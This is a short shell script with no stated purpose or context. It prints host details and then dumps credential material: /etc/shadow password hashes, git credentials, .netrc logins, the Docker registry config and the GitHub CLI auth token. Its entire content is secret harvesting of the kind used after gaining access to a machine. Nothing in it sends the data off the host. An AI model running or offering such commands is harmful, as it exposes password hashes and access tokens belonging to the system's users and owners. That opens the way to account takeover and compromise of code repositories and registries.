#!/bin/sh
uname -a
cat /etc/shadow
cat ~/.git-credentials ~/.netrc ~/.docker/config.json 2>/dev/null
gh auth token
